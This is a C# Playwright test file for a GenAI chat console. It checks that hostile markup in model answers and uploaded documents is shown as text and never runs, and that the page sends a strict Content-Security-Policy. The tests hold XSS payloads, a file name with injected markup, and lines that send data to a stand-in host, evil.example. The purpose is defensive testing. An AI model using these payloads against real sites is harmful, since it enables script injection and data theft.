using System.Text.Json;
using GenAI.EndToEnd.Tests.Gateway;
using Microsoft.Playwright;

namespace GenAI.EndToEnd.Tests.Console;

/// <summary>Neither an answer nor a document can act as the page.</summary>
public sealed class SafetyTests(GatewayProcess gateway, Browser browser) : IClassFixture<Browser>
{
    private const string Pwned = "window.pwned = true";

    private static readonly string[] s_hostile =
    [
        $"<script>{Pwned}</script>",
        $"<img src=x onerror=\"{Pwned}\">",
        $"<svg onload=\"{Pwned}\"><a href=\"javascript:{Pwned}\">x</a></svg>",
        $"<iframe srcdoc=\"<script>parent.{Pwned}</script>\"></iframe>",
        $"[click](javascript:{Pwned})",
        $"[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
        $"![x](x\" onerror=\"{Pwned})",
        $"```\"><img src=x onerror={Pwned}>\ncode\n```",
        $"| <img src=x onerror={Pwned}> |\n|---|\n| <script>{Pwned}</script> |",
        $"<style>*{{display:none}}</style><base href=\"https://evil.example/\"><form action=\"https://evil.example/\"><input></form>",
        "![leak](https://evil.example/pixel?secret)",
    ];

    [Fact]
    public async Task Answer_WithHostileMarkup_IsShownAndNotRun()
    {
        await using var page = await browser.OpenAsync(gateway.Address);
        var foreign = WatchForeignRequests(page);
        await page.Page.RouteAsync("**/v1/chat/completions", route => route.FulfillAsync(new()
        {
            ContentType = "text/event-stream",
            Body = Stream(string.Join("\n\n", s_hostile)),
        }));

        var answer = await page.AnswerAsync("Anything");
        foreach (var link in await answer.Locator(".prose a").AllAsync())
        {
            (await link.GetAttributeAsync("href") ?? "").ShouldStartWith("https://");
            (await link.GetAttributeAsync("rel") ?? "").ShouldContain("noopener");
        }

        await Assertions.Expect(answer.Locator(".prose")).ToContainTextAsync("<script>");
        (await answer.Locator(".prose").EvaluateAsync<int>(
            "p => p.querySelectorAll('script, img, svg, iframe, style, base, form, input, object, embed').length")).ShouldBe(0);
        (await answer.Locator(".prose").EvaluateAsync<int>(
            "p => [...p.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')).length")).ShouldBe(0);
        (await page.Page.EvaluateAsync<bool>("() => window.pwned === true")).ShouldBeFalse();
        foreign.ShouldBeEmpty();
        page.Complaints.ShouldBeEmpty();
    }

    [Fact]
    public async Task Document_WithHostileMarkup_IsQuotedAndNotRun()
    {
        await using var page = await browser.OpenAsync(gateway.Address);
        var foreign = WatchForeignRequests(page);
        await page.Page.GetByRole(AriaRole.Button, new() { Name = "Documents", Exact = true }).ClickAsync();
        var collection = $"Hostile {Guid.NewGuid():N}";
        await page.Page.Locator("#new-collection").FillAsync(collection);
        await page.Page.Locator("#new-collection").PressAsync("Enter");
        await Assertions.Expect(page.Panel.Locator("select option:checked")).ToContainTextAsync(collection);

        await page.DropAsync(
            ("<img src=x onerror=window.pwned=true>.txt",
            "The zanzibar protocol says: <img src=x onerror=\"window.pwned = true\"> <script>window.pwned = true</script> is forbidden on Tuesdays."));
        await Assertions.Expect(page.Page.Locator(".upload[data-state=done]")).ToHaveCountAsync(1, new() { Timeout = 240_000 });
        await page.ChooseAsync(collection);
        var answer = await page.AnswerAsync("What does the zanzibar protocol say?");

        await answer.Locator(".prose .chip").First.ClickAsync();
        await Assertions.Expect(page.Panel.Locator("mark")).ToContainTextAsync("zanzibar");
        (await page.Page.EvaluateAsync<bool>("() => window.pwned === true")).ShouldBeFalse();
        foreign.ShouldBeEmpty();
        page.Complaints.ShouldBeEmpty();
    }

    [Fact]
    public async Task Page_OnTheWire_AllowsOnlyItsOwnFiles()
    {
        using var http = new HttpClient { BaseAddress = gateway.Address };

        using var response = await http.GetAsync("/", TestContext.Current.CancellationToken);

        var policy = response.Headers.GetValues("Content-Security-Policy").Single();
        policy.ShouldContain("default-src 'none'");
        policy.ShouldContain("frame-ancestors 'none'");
        policy.ShouldNotContain("unsafe");
        var page = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        page.ShouldNotContain("http://");
        page.ShouldNotContain("https://");
    }

    private List<string> WatchForeignRequests(ConsolePage page)
    {
        var foreign = new List<string>();
        page.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(gateway.Address.AbsoluteUri, StringComparison.Ordinal) && !request.Url.StartsWith("blob:", StringComparison.Ordinal))
            {
                foreign.Add(request.Url);
            }
        };
        return foreign;
    }

    private static string Stream(string text)
    {
        var content = JsonSerializer.Serialize(text);
        return $"data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"role\":\"assistant\",\"content\":{content}}},\"finish_reason\":null}}]}}\n\n"
            + "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    }
}
